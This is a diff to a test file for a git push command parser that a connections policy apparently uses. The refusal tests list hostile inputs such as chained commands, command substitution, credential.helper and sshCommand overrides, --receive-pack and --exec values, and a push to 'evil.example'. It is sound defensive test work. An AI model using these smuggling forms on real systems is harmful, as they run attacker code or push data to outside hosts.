@@ -1,56 +1,52 @@
-import { describe, expect, test } from "vitest";
+import { expect, test } from "vitest";
 import type { Effect } from "#effect";
 import { pushCommandOf } from "#network/push-command";
 import { createConnectionsPolicy } from "#policies/connections";
 import { inputWith } from "../policies/effects.ts";
 
-describe("a push by itself", () => {
-  test.each<[string, object]>([
-    ["git push", { options: [], remote: undefined, refspecs: [], skipsHook: false, setsUpstream: false }],
-    ["git push origin main", { remote: "origin", refspecs: ["main"] }],
-    ["git push -u origin HEAD", { remote: "origin", refspecs: ["HEAD"], setsUpstream: true, options: [] }],
-    ["git push -uf origin a b", { options: ["-f"], setsUpstream: true, refspecs: ["a", "b"] }],
-    ["git push --force-with-lease origin 'a b' 2>&1", { options: ["--force-with-lease"], refspecs: ["a b"] }],
-    ["git push -o ci.skip --no-verify origin x", { options: ["--push-option=ci.skip"], skipsHook: true }],
-    ["git push git@git.example:me/r.git v1:v1", { remote: "git@git.example:me/r.git", refspecs: ["v1:v1"] }],
-  ])("%s", (text, expected) => {
-    expect(pushCommandOf(text)).toMatchObject(expected);
-  });
+test.each<[string, object]>([
+  ["git push", { options: [], remote: undefined, refspecs: [], skipsHook: false, setsUpstream: false }],
+  ["git push origin main", { remote: "origin", refspecs: ["main"] }],
+  ["git push -u origin HEAD", { remote: "origin", refspecs: ["HEAD"], setsUpstream: true, options: [] }],
+  ["git push -uf origin a b", { options: ["-f"], setsUpstream: true, refspecs: ["a", "b"] }],
+  ["git push --force-with-lease origin 'a b' 2>&1", { options: ["--force-with-lease"], refspecs: ["a b"] }],
+  ["git push -o ci.skip --no-verify origin x", { options: ["--push-option=ci.skip"], skipsHook: true }],
+  ["git push git@git.example:me/r.git v1:v1", { remote: "git@git.example:me/r.git", refspecs: ["v1:v1"] }],
+])("a push by itself: %s", (text, expected) => {
+  expect(pushCommandOf(text)).toMatchObject(expected);
 });
 
-describe("is refused with anything around it, and with options that lead it elsewhere", () => {
-  test.each([
-    "git push origin x && evil",
-    "git push origin src/*",
-    'git push origin "$(git branch --show-current)"',
-    "evil; git push",
-    "git add -A && git commit -m x && git push",
-    "cd sub && git push",
-    "git -C sub push",
-    "git -c credential.helper=evil push",
-    "git -c core.sshCommand=evil push origin main",
-    "GIT_SSH_COMMAND=evil git push",
-    "env GIT_SSH=evil git push",
-    "sudo git push",
-    "bash -c 'git push'",
-    "git push | tee log",
-    "git push > log",
-    "git push < in",
-    "git push &",
-    "git push $REMOTE main",
-    "git push $(evil) main",
-    "git push origin `evil`",
-    "git push origin {a,b}",
-    "git push origin *",
-    "if true; then git push; fi",
-    "git push --repo=https://evil.example/x",
-    "git push --receive-pack=evil origin",
-    "git push --exec evil origin",
-    "git push --recurse-submodules=on-demand origin",
-    "git push --signed origin",
-  ])("%s", (text) => {
-    expect(pushCommandOf(text)).toBeUndefined();
-  });
+test.each([
+  "git push origin x && evil",
+  "git push origin src/*",
+  'git push origin "$(git branch --show-current)"',
+  "evil; git push",
+  "git add -A && git commit -m x && git push",
+  "cd sub && git push",
+  "git -C sub push",
+  "git -c credential.helper=evil push",
+  "git -c core.sshCommand=evil push origin main",
+  "GIT_SSH_COMMAND=evil git push",
+  "env GIT_SSH=evil git push",
+  "sudo git push",
+  "bash -c 'git push'",
+  "git push | tee log",
+  "git push > log",
+  "git push < in",
+  "git push &",
+  "git push $REMOTE main",
+  "git push $(evil) main",
+  "git push origin `evil`",
+  "git push origin {a,b}",
+  "git push origin *",
+  "if true; then git push; fi",
+  "git push --repo=https://evil.example/x",
+  "git push --receive-pack=evil origin",
+  "git push --exec evil origin",
+  "git push --recurse-submodules=on-demand origin",
+  "git push --signed origin",
+])("is refused with anything around it, and with options that lead it elsewhere: %s", (text) => {
+  expect(pushCommandOf(text)).toBeUndefined();
 });
 
 test("a login is asked about", () => {
